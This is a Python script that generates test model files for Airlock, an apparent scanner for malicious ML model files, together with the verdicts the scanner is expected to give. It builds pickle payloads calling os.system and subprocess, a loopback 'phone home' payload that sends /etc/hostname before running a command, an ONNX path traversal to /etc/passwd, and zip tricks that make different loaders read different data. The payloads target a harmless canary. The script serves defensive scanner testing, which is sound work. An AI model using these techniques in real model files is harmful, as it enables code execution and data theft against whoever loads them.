#!/usr/bin/env python3
"""Writes whole model files for Airlock's scan tests, plus expectations.json: for each path, the verdict `airlock scan`
must give and rule ids that must be among its findings.

Python 3 standard library only; pickles are assembled opcode by opcode with pickles.py (never with pickle.dumps of
live objects, and nothing is ever unpickled). Every payload is harmless: commands such as
`touch /tmp/airlock-pickle-test`.

    models.py OUTDIR [--canary PATH] [--port N]

--canary and --port retarget the payloads as in pickles.py, for detonation tests.
"""
import json
import os
import struct
import sys
import zipfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import pickles  # noqa: E402
from pickles import Build, Call, Global, PersId  # noqa: E402

EXPECT = []


def expect(path, verdict, *rules, format=None):
    EXPECT.append({"path": path, "verdict": verdict, "rules": list(rules), "format": format})


def state_dict(payload=None):
    """An OrderedDict of one tensor, as torch writes it; with `payload`, a second entry that runs it."""
    entries = {"layer.weight": Call(Global("torch._utils", "_rebuild_tensor_v2"),
                                    (PersId(("storage", Global("torch", "FloatStorage"), "0", "cpu", 4)), 0, (2, 2),
                                     (2, 1), False, Call(Global("collections", "OrderedDict"), ())))}
    if payload is not None:
        entries["layer.bias"] = payload
    return Build(Call(Global("collections", "OrderedDict"), ()), entries, callee="collections.OrderedDict")


def pkl(value, proto=2):
    return pickles.assemble(value, proto)[0]


def evil():
    return Call(Global("os", "system"), (pickles.CMD,))


def torch_zip(path, data_pkl, extra=()):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", data_pkl)
        z.writestr("archive/byteorder", "little")
        z.writestr("archive/data/0", bytes(16))
        z.writestr("archive/version", "3\n")
        for name, data in extra:
            z.writestr(name, data)


def npy(descr, shape, data):
    header = "{'descr': '%s', 'fortran_order': False, 'shape': %s, }" % (descr, repr(tuple(shape)))
    total = 10 + len(header) + 1
    header += " " * ((64 - total % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + data


def safetensors(header, data):
    h = json.dumps(header).encode()
    return struct.pack("<Q", len(h)) + h + data


def varint(v):
    out = bytearray()
    while True:
        b = v & 0x7F
        v >>= 7
        out.append(b | (0x80 if v else 0))
        if not v:
            return bytes(out)


def field(num, payload=None, value=None):
    if value is not None:
        return varint(num << 3) + varint(value)
    return varint(num << 3 | 2) + varint(len(payload)) + payload


def onnx(location=None, domain=""):
    tensor = field(1, value=4) + field(2, value=1) + field(8, b"w")
    if location is None:
        tensor += field(9, bytes(16))
    else:
        tensor += field(13, field(1, b"location") + field(2, location.encode())) + field(14, value=1)
    node = field(1, b"x") + field(2, b"y") + field(4, b"Relu") + (field(7, domain.encode()) if domain else b"")
    graph = field(1, node) + field(2, b"g") + field(5, tensor)
    return field(1, value=8) + field(2, b"pytorch") + field(8, field(1, b"") + field(2, value=17)) + field(7, graph)


def gguf():
    def s(t):
        return struct.pack("<Q", len(t)) + t.encode()
    kv = s("general.architecture") + struct.pack("<I", 8) + s("llama")
    tensor = s("w") + struct.pack("<I", 1) + struct.pack("<Q", 4) + struct.pack("<I", 0) + struct.pack("<Q", 0)
    head = b"GGUF" + struct.pack("<I", 3) + struct.pack("<Q", 1) + struct.pack("<Q", 1) + kv + tensor
    head += bytes((32 - len(head) % 32) % 32)
    return head + bytes(16)


def keras(path, layers):
    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": layers}}
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.0.0"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(64))


def main(out):
    os.makedirs(out, exist_ok=True)
    p = lambda name: os.path.join(out, name)  # noqa: E731

    torch_zip(p("benign.pt"), pkl(state_dict()))
    expect("benign.pt", "clean", format="pytorch-zip")
    torch_zip(p("evil.pt"), pkl(state_dict(evil())))
    expect("evil.pt", "malicious", "pickle.dangerous-import", format="pytorch-zip")
    torch_zip(p("evil_getattr.pth"), pkl(state_dict(Call(Call(Global("builtins", "getattr"),
                                                                 (Call(Global("builtins", "__import__"), ("os",)), "system")),
                                                            (pickles.CMD,))), proto=4))
    expect("evil_getattr.pth", "malicious", "pickle.dangerous-call", format="pytorch-zip")
    # Two records named archive/data.pkl: PyTorch and Python's zipfile may read different ones; both are scanned.
    import warnings
    warnings.simplefilter("ignore")
    with zipfile.ZipFile(p("duplicate.pt"), "w") as z:
        z.writestr("archive/data.pkl", pkl(state_dict()))
        z.writestr("archive/data.pkl", pkl(evil()))
        z.writestr("archive/version", "3\n")
    expect("duplicate.pt", "malicious", "zip.duplicate-name", "pickle.dangerous-import", format="pytorch-zip")
    # Data in front of the archive: torch.load reads it as a legacy pickle, zipfile as an archive.
    with open(p("prefixed.pt"), "wb") as f:
        f.write(pkl(evil()))
        with open(p("benign.pt"), "rb") as g:
            f.write(g.read())
    expect("prefixed.pt", "malicious", "pickle.dangerous-import")

    with open(p("legacy.pt"), "wb") as f:
        f.write(bytes.fromhex("80028a0a6cfc9c46f9206aa85019") + b"." + pkl(1001) + pkl({"protocol_version": 1001})
                + pkl(state_dict()) + pkl(["0"]) + struct.pack("<Q", 4) + bytes(16))
    expect("legacy.pt", "clean", format="pytorch-legacy")
    with open(p("legacy_evil.pt"), "wb") as f:
        f.write(bytes.fromhex("80028a0a6cfc9c46f9206aa85019") + b"." + pkl(1001) + pkl({"protocol_version": 1001})
                + pkl(state_dict(evil())) + pkl(["0"]) + bytes(16))
    expect("legacy_evil.pt", "malicious", "pickle.dangerous-import", format="pytorch-legacy")

    # joblib reads shape x itemsize array bytes after the wrapper's BUILD (none here: an empty array, and no
    # numpy_array_alignment_bytes, so no padding). The wrapper is made as protocols 0-1 make it, without __init__.
    wrapper = Call(Global("copyreg", "_reconstructor"),
                   (Global("joblib.numpy_pickle", "NumpyArrayWrapper"), Global("builtins", "object"), None))
    joblib_value = Build(wrapper, {"subclass": Global("numpy", "ndarray"), "shape": (0,), "order": "C",
                                   "dtype": Call(Global("numpy", "dtype"), ("f8",))},
                         callee="joblib.numpy_pickle.NumpyArrayWrapper")
    with open(p("model.joblib"), "wb") as f:
        f.write(pkl(joblib_value, 4))
    expect("model.joblib", "clean", format="joblib")
    with open(p("evil.joblib"), "wb") as f:
        f.write(pkl([joblib_value, Call(Global("subprocess", "Popen"), (["id"],))], 4))
    expect("evil.joblib", "malicious", "pickle.dangerous-import", format="joblib")
    # The demo's malicious model: a pickle that phones home, then starts a shell (make demo probes it).
    exfil = ("import os, socket\n"
             "try:\n"
             "    socket.create_connection(('127.0.0.1', %d), timeout=1).sendall(open('/etc/hostname', 'rb').read())\n"
             "except OSError:\n"
             "    pass\n"
             "os.system(%r)\n" % (pickles.PORT, pickles.CMD))
    with open(p("exfil.pkl"), "wb") as f:
        f.write(pkl(Build(Call(Global("collections", "OrderedDict"), ()),
                          {"weight": Call(Global("builtins", "exec"), (exfil,))}, callee="collections.OrderedDict")))
    expect("exfil.pkl", "malicious", "pickle.dangerous-import", format="pickle")
    with open(p("sklearn.pkl"), "wb") as f:
        f.write(pkl(Call(Global("sklearn.linear_model._base", "LinearRegression"), ()), 4))
    expect("sklearn.pkl", "suspicious", "pickle.unknown-import", format="pickle")

    with open(p("floats.npy"), "wb") as f:
        f.write(npy("<f4", (2, 2), bytes(16)))
    expect("floats.npy", "clean", format="numpy")
    with open(p("objects.npy"), "wb") as f:
        f.write(npy("|O", (1,), pkl([evil()], 3)))
    expect("objects.npy", "malicious", "numpy.object-dtype", "pickle.dangerous-import", format="numpy")
    with zipfile.ZipFile(p("arrays.npz"), "w") as z:
        z.writestr("a.npy", npy("<f8", (2,), bytes(16)))
        z.writestr("b.npy", npy("<i4", (3,), bytes(12)))
    expect("arrays.npz", "clean", format="npz")
    with zipfile.ZipFile(p("objects.npz"), "w") as z:
        z.writestr("a.npy", npy("<f8", (2,), bytes(16)))
        z.writestr("b.npy", npy("|O", (1,), pkl([evil()], 3)))
    expect("objects.npz", "malicious", "pickle.dangerous-import", format="npz")

    tensor = {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}
    with open(p("model.safetensors"), "wb") as f:
        f.write(safetensors({"__metadata__": {"format": "pt"}, "w": tensor}, bytes(16)))
    expect("model.safetensors", "clean", format="safetensors")
    with open(p("overlap.safetensors"), "wb") as f:
        f.write(safetensors({"a": tensor, "b": tensor}, bytes(16)))
    expect("overlap.safetensors", "suspicious", "safetensors.overlap", format="safetensors")
    with open(p("lying.safetensors"), "wb") as f:
        f.write(pkl(evil(), 4))
    expect("lying.safetensors", "malicious", "format.name-mismatch", "pickle.dangerous-import", format="pickle")

    keras(p("benign.keras"), [{"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 2}}])
    expect("benign.keras", "clean", format="keras")
    keras(p("lambda.keras"), [{"module": "keras.layers", "class_name": "Lambda",
                               "config": {"name": "l", "function": {"class_name": "__lambda__",
                                                                    "config": {"code": "4wEAAAAAAAAA"}}}}])
    expect("lambda.keras", "malicious", "keras.lambda", format="keras")

    with open(p("model.onnx"), "wb") as f:
        f.write(onnx())
    expect("model.onnx", "clean", format="onnx")
    with open(p("traversal.onnx"), "wb") as f:
        f.write(onnx(location="../../../../etc/passwd"))
    expect("traversal.onnx", "malicious", "onnx.external-data-traversal", format="onnx")
    with open(p("custom.onnx"), "wb") as f:
        f.write(onnx(domain="com.example.custom"))
    expect("custom.onnx", "suspicious", "onnx.custom-domain", format="onnx")

    with open(p("model.gguf"), "wb") as f:
        f.write(gguf())
    expect("model.gguf", "clean", format="gguf")

    repo = os.path.join(out, "hf_repo")
    os.makedirs(repo, exist_ok=True)
    with open(os.path.join(repo, "config.json"), "w") as f:
        json.dump({"model_type": "custom", "auto_map": {"AutoModel": "modeling_custom.CustomModel"}}, f)
    with open(os.path.join(repo, "modeling_custom.py"), "w") as f:
        f.write("import os\n")
    torch_zip(os.path.join(repo, "pytorch_model.bin"), pkl(state_dict()))
    with open(os.path.join(repo, "model.safetensors"), "wb") as f:
        f.write(safetensors({"w": tensor}, bytes(16)))
    expect("hf_repo/config.json", "suspicious", "hf.remote-code", format="json")
    expect("hf_repo/modeling_custom.py", "suspicious", "hf.python-module")
    expect("hf_repo/pytorch_model.bin", "clean", "hf.pickle-weights", format="pytorch-zip")
    expect("hf_repo/model.safetensors", "clean", format="safetensors")

    with open(os.path.join(out, "expectations.json"), "w") as f:
        json.dump(EXPECT, f, indent=1)


if __name__ == "__main__":
    argv = sys.argv[1:]
    if len(argv) not in (1, 3, 5):
        sys.exit("usage: models.py OUTDIR [--canary PATH] [--port N]")
    options = dict(zip(argv[1::2], argv[2::2]))
    pickles.retarget(options.get("--canary", pickles.CANARY), int(options.get("--port", pickles.PORT)))
    main(argv[0])
